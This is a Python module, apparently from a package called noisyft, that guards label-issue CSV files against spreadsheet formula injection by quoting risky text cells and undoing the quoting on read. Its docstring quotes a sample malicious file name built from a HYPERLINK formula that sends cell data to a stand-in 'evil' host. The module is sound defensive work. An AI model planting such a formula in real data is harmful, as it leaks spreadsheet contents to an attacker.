"""CSV files that are safe to open in a spreadsheet (no formula injection).

File and class names come from the user's data, and data can come from anyone:
an image called ``=HYPERLINK("http://evil/?"&A1, "x").png`` becomes a live
formula when ``label_issues.csv`` is opened in Excel, LibreOffice or Google
Sheets. As OWASP recommends (CSV Injection), every *text* cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a
leading single quote ``'``, which spreadsheets show as text. Numbers (negative
ones included) are not text and are written as they are.

So that reading a file back gives the original strings, a text cell that
itself starts with ``'`` gets one more ``'`` too; :func:`read_csv` removes
exactly one leading quote from every text cell that has one. Frames in memory
(``FitResult.label_issues``, ``api.predict``'s result) always hold the raw
strings; only what is written to disk is escaped.
"""
from __future__ import annotations

import os

import pandas as pd

from noisyft.atomic import atomic_path

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def escape_cell(value):
    """``value`` with a leading ``'`` if it is text a spreadsheet could read as a formula (or starts with ``'``)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS + (QUOTE,)):
        return QUOTE + value
    return value


def unescape_cell(value):
    """Undo :func:`escape_cell` (one leading ``'`` removed from text cells)."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[1:]
    return value


def _map_text(df: pd.DataFrame, fn) -> pd.DataFrame:
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(fn)
    return out


def escape_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell escaped (numeric columns untouched)."""
    return _map_text(df, escape_cell)


def unescape_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with :func:`escape_cell` undone on every text cell."""
    return _map_text(df, unescape_cell)


def to_csv_text(df: pd.DataFrame) -> str:
    """``df`` as escaped CSV text (no index column)."""
    return escape_frame(df).to_csv(index=False)


def write_csv(path: str | os.PathLike, df: pd.DataFrame) -> None:
    """Write ``df`` (escaped, no index) atomically to ``path``."""
    with atomic_path(path) as tmp:
        escape_frame(df).to_csv(tmp, index=False)


def read_csv(path: str | os.PathLike, **kw) -> pd.DataFrame:
    """Read a CSV written by :func:`write_csv`, with the original strings restored."""
    return unescape_frame(pd.read_csv(path, **kw))
